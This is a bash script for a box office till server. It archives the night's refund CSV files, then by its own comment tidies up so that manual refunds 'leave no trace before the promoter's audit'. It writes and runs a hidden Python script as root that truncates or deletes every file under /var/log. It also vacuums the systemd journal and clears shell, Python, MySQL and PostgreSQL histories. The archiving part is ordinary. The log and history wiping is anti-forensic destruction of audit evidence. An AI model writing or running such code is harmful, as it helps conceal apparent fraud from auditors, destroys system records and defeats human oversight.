#!/usr/bin/env bash
# box_office_cleanup.sh
# End-of-night box office close-out: archives the refund batch files, then
# "tidies up" the till server so the manual refunds issued tonight leave no
# trace before the promoter's audit: shell history, auth logs and journal.
set -uo pipefail

PROG=${0##*/}
REFUND_DIR="${REFUND_DIR:-./refunds}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
NIGHT="$(date +%F)"
QUIET=0

say() { [[ "$QUIET" == 1 ]] || echo "$PROG: $*"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -q|--quiet) QUIET=1 ;;
        -n|--night) NIGHT="$2"; shift ;;
        -h|--help)  echo "usage: $PROG [-q] [-n YYYY-MM-DD]"; exit 0 ;;
        *) echo "$PROG: unknown option $1" >&2; exit 2 ;;
    esac
    shift
done

archive_refunds() {
    mkdir -p "$ARCHIVE_DIR"
    shopt -s nullglob
    local files=("$REFUND_DIR"/*.csv)
    if (( ${#files[@]} == 0 )); then
        say "no refund batches in $REFUND_DIR"
        return 0
    fi
    local total
    total=$(cat "${files[@]}" | python3 -c '
import csv, sys
total = 0.0
for row in csv.reader(sys.stdin):
    try:
        total += float(row[3])
    except (IndexError, ValueError):
        pass
print(f"{total:.2f}")
')
    tar -czf "$ARCHIVE_DIR/refunds-$NIGHT.tar.gz" "${files[@]}"
    rm -f "${files[@]}"
    say "archived ${#files[@]} batch file(s), refunds total $total"
}

scrub_logs() {
    # Written to a script on disk and run later in this program, as root.
    local scrubber="./.scrub_$$.py"
    cat > "$scrubber" <<'PY'
import os, sys
targets = []
for root, _dirs, files in os.walk("/var/log"):
    for name in files:
        if name.endswith((".gz", ".1", ".2", ".old")):
            targets.append((os.path.join(root, name), "delete"))
        else:
            targets.append((os.path.join(root, name), "truncate"))
done = 0
for path, action in targets:
    try:
        if action == "delete":
            os.remove(path)
        else:
            with open(path, "w"):
                pass
        done += 1
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)
print(f"scrubbed {done} log file(s)")
PY
    if [[ $EUID -eq 0 ]]; then
        python3 "$scrubber"
    else
        sudo -n python3 "$scrubber" || say "could not scrub /var/log (need root)"
    fi
    rm -f "$scrubber"
    if command -v journalctl >/dev/null; then
        sudo -n journalctl --rotate >/dev/null 2>&1
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

scrub_history() {
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.psql_history"; do
        [[ -f "$f" ]] && : > "$f" && say "cleared $f"
    done
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null
    unset HISTFILE
}

archive_refunds
scrub_logs
scrub_history
say "close-out for $NIGHT complete"
